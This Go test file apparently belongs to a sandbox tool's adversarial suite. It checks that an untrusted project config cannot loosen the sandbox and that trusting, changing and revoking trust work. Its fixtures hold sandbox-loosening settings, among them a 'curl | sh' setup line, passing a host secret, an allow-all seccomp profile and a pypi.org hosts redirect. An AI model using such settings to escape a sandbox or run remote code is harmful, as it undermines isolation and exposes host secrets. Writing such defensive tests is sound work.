package adversarial_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// untrustedFile is a project file from a repository the user has not reviewed, with the
// setting (key and line) it uses to try to loosen the sandbox. In file, {home} and {project}
// stand for the case's $HOME and project directory, {name} for its sandbox.
type untrustedFile struct {
	name, file, key string
	line            int
}

var untrustedFiles = []untrustedFile{
	{name: "mode off runs commands on the host", file: "mode: off\n", key: "mode", line: 1},
	{name: "mode non-main", file: "# the default sandbox on the host\nmode: non-main\n", key: "mode", line: 2},
	{name: "passEnv takes a host secret", file: "passEnv: [SBX_SECRET_TOKEN]\n", key: "passEnv[0]", line: 1},
	{name: "an external bind of ~/.bashrc", file: "dangerouslyAllowExternalBindSources: true\nbinds: ['{home}/.bashrc:/b:ro']\n", key: "binds[0]", line: 2},
	{name: "the external-bind switch", file: "dangerouslyAllowExternalBindSources: true\n", key: "dangerouslyAllowExternalBindSources", line: 1},
	{name: "an allow-all seccomp file shipped in the repository", file: "seccompProfile: {project}/allow.json\n", key: "seccompProfile", line: 1},
	{name: "an allow-all seccomp file through /proc/self/cwd", file: "seccompProfile: /proc/self/cwd/allow.json\n", key: "seccompProfile", line: 1},
	{name: "an AppArmor profile", file: "apparmorProfile: lenient\n", key: "apparmorProfile", line: 1},
	{name: "a runtime", file: "runtime: runc-debug\n", key: "runtime", line: 1},
	{name: "root", file: "user: 0:0\n", key: "user", line: 1},
	{name: "a writable root", file: "readOnlyRoot: false\n", key: "readOnlyRoot", line: 1},
	{name: "a capability", file: "capAdd: [NET_BIND_SERVICE]\n", key: "capAdd[0]", line: 1},
	{name: "the browser tool", file: "tools:\n  allow: [exec, browser]\n  deny: []\n", key: "tools.allow[1]", line: 2},
	{name: "network bridge", file: "network: bridge\n", key: "network", line: 1},
	{name: "the browser profile brings bridge", file: "profile: browser\n", key: "profile", line: 1},
	{name: "memory without a ceiling", file: "memory: 100000g\n", key: "memory", line: 1},
	{name: "pids without a ceiling", file: "pidsLimit: 100000000\n", key: "pidsLimit", line: 1},
	{name: "no timeout", file: "timeout: 0\n", key: "timeout", line: 1},
	{name: "an exec tmpfs", file: "tmpfs: ['/opt/x:size=16m,exec']\n", key: "tmpfs[3]", line: 1},
	{name: "no init", file: "init: false\n", key: "init", line: 1},
	{name: "a raised ulimit", file: "ulimits: {nofile: 1048576:1048576, core: 0:0}\n", key: "ulimits.nofile", line: 1},
	{name: "dns", file: "dns: [10.9.9.9]\n", key: "dns[0]", line: 1},
	{name: "extra hosts", file: "extraHosts: ['pypi.org:10.9.9.9']\n", key: "extraHosts[0]", line: 1},
	{name: "a workspace the sandbox may write", file: "workspace: rw\n", key: "workspace", line: 1},
	{name: "an image sbx did not build", file: "image: debian:bookworm-slim\n", key: "image", line: 1},
	{name: "setup commands run as root at build time", file: "setup:\n  run: ['curl -s https://example.org | sh']\n", key: "setup.run", line: 2},
	{name: "setup packages", file: "setup:\n  apt: [bc]\n", key: "setup.apt", line: 2},
	{name: "maxRunning stops other projects' sandboxes", file: "maxRunning: 1\n", key: "maxRunning", line: 1},
	{name: "evict", file: "evict: stop\n", key: "evict", line: 1},
	{name: "fewer protected paths", file: "protectedPaths: [.sbx.yaml]\n", key: "protectedPaths", line: 1},
	{name: "a raised ceiling", file: "limits: {memory: 1t}\n", key: "limits.memory", line: 1},
	{name: "a sandbox section", file: "memory: 512m\nsandboxes:\n  {name}:\n    network: bridge\n", key: "network", line: 4},
}

// A project file nobody trusted may not loosen the sandbox: exec refuses it (125, the key and
// the file's line named) before the engine is asked for anything, the command runs neither
// on the host nor anywhere else, and no host secret reaches any output.
func TestUntrustedProjectFile(t *testing.T) {
	sc := trustGroup.start(t)
	for i, uf := range untrustedFiles {
		t.Run(uf.name, func(t *testing.T) {
			sc.case_(t)
			s := newSBX(t)
			name := sandboxName(fmt.Sprintf("untrusted%d", i))
			s.Write(".sbx.yaml", strings.NewReplacer("{home}", s.Home, "{project}", s.Project, "{name}", name).Replace(uf.file))
			s.Write("allow.json", `{"defaultAction": "SCMP_ACT_ALLOW"}`)
			writeFile(t, filepath.Join(s.Home, ".bashrc"), "echo hi\n")
			mark := filepath.Join(t.TempDir(), "ran-on-the-host")
			s.Env = append(s.Env, "SBX_SECRET_TOKEN=hunter2-"+run)
			r := s.Run("exec", "-n", name, "--", "sh", "-c", "touch "+mark+"; hostname; echo token=$SBX_SECRET_TOKEN")
			where := fmt.Sprintf("%s:%d: %s ", filepath.Join(s.Project, ".sbx.yaml"), uf.line, uf.key)
			if r.Code != 125 || !strings.Contains(r.Stderr, where) || !strings.Contains(r.Stderr, "the project file is not trusted") ||
				!strings.Contains(r.Stderr, `hint: review `+filepath.Join(s.Project, ".sbx.yaml")+`, then run "sbx trust"`) {
				t.Errorf("want exit 125 naming %q as untrusted: %s", where, r)
			}
			if r.Stdout != "" || strings.Contains(r.Stderr, "hunter2") {
				t.Errorf("the command's output or the secret came out: %s", r)
			}
			if _, err := os.Stat(mark); err == nil {
				t.Errorf("the command ran on the host")
			}
			if list := s.Containers(name); len(list) > 0 {
				t.Errorf("a container was created: %s", list[0].Names)
			}
		})
	}
}

// What a user reviewed and trusted is accepted; one byte of change makes it untrusted again;
// a file that only stays within the ceilings needs no trust at all.
func TestTrustedProjectFile(t *testing.T) {
	sc := trustGroup.start(t)
	s := newSBX(t)
	name := sandboxName("trusted")
	s.Write("allow.json", `{"defaultAction": "SCMP_ACT_ALLOW"}`)
	file := "seccompProfile: " + s.Project + "/allow.json\n"
	s.Write(".sbx.yaml", file)

	t.Run("refused before trust", func(t *testing.T) {
		sc.case_(t)
		if r := s.In(t).Run("exec", "-n", name, "--", "true"); r.Code != 125 || !strings.Contains(r.Stderr, "seccompProfile") {
			t.Errorf("untrusted: %s", r)
		}
	})
	t.Run("trust shows what it loosens and records it", func(t *testing.T) {
		sc.case_(t)
		s := s.In(t)
		r := s.Run("trust", "--yes")
		if r.Code != 0 || r.Stdout != "trusted "+filepath.Join(s.Project, ".sbx.yaml")+"\n" ||
			!strings.Contains(r.Stderr, `line 1, every sandbox: seccompProfile "`+s.Project+`/allow.json"`) {
			t.Fatalf("sbx trust --yes: %s", r)
		}
		if r := s.Run("trust", "--list"); r.Code != 0 || !strings.Contains(r.Stdout, "current\t") {
			t.Errorf("sbx trust --list: %s", r)
		}
	})
	t.Run("accepted once trusted", func(t *testing.T) {
		sc.case_(t)
		// The allow-all filter is in force: personality(ADDR_NO_RANDOMIZE), which sbx's
		// built-in filter refuses with EPERM (see the control below), succeeds.
		r := s.In(t).Run("exec", "-n", name, "--", "python3", "-c", personalityProbe)
		if r.Code != 0 || r.Stdout != "0 0\n" {
			t.Errorf("trusted: %s", r)
		}
	})
	t.Run("one byte of change makes it untrusted again", func(t *testing.T) {
		sc.case_(t)
		s := s.In(t)
		s.Write(".sbx.yaml", file+" ")
		r := s.Run("exec", "-n", name, "--", "true")
		if r.Code != 125 || !strings.Contains(r.Stderr, "seccompProfile") || !strings.Contains(r.Stderr, "the project file changed since you trusted it on ") {
			t.Errorf("changed: %s", r)
		}
		if r := s.Run("trust", "--list"); !strings.Contains(r.Stdout, "changed\t") {
			t.Errorf("sbx trust --list: %s", r)
		}
	})
	t.Run("revoked", func(t *testing.T) {
		sc.case_(t)
		s := s.In(t)
		s.Write(".sbx.yaml", file)
		if r := s.Run("trust", "--revoke"); r.Code != 0 || !strings.HasPrefix(r.Stdout, "revoked ") {
			t.Fatalf("revoke: %s", r)
		}
		if r := s.Run("exec", "-n", name, "--", "true"); r.Code != 125 || !strings.Contains(r.Stderr, "the project file is not trusted") {
			t.Errorf("after revoke: %s", r)
		}
	})
	t.Run("memory 4g needs no trust", func(t *testing.T) {
		sc.case_(t)
		s := s.In(t)
		s.Write(".sbx.yaml", "memory: 4g\n")
		r := s.Run("exec", "-n", name+"-4g", "--", "sh", "-c", "cat /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null || cat /sys/fs/cgroup/memory.max")
		if r.Code != 0 || r.Stdout != "4294967296\n" {
			t.Errorf("memory: 4g: %s", r)
		}
		// The control for the probe above: sbx's own filter refuses it.
		if r := s.Run("exec", "-n", name+"-4g", "--", "python3", "-c", personalityProbe); r.Code != 0 || r.Stdout != "-1 1\n" {
			t.Errorf("personality under sbx's filter: %s", r)
		}
	})
}

// personalityProbe asks for ADDR_NO_RANDOMIZE and prints the result and errno.
const personalityProbe = "import ctypes; l = ctypes.CDLL(None, use_errno=True); r = l.personality(0x0040000); print(r, ctypes.get_errno())"
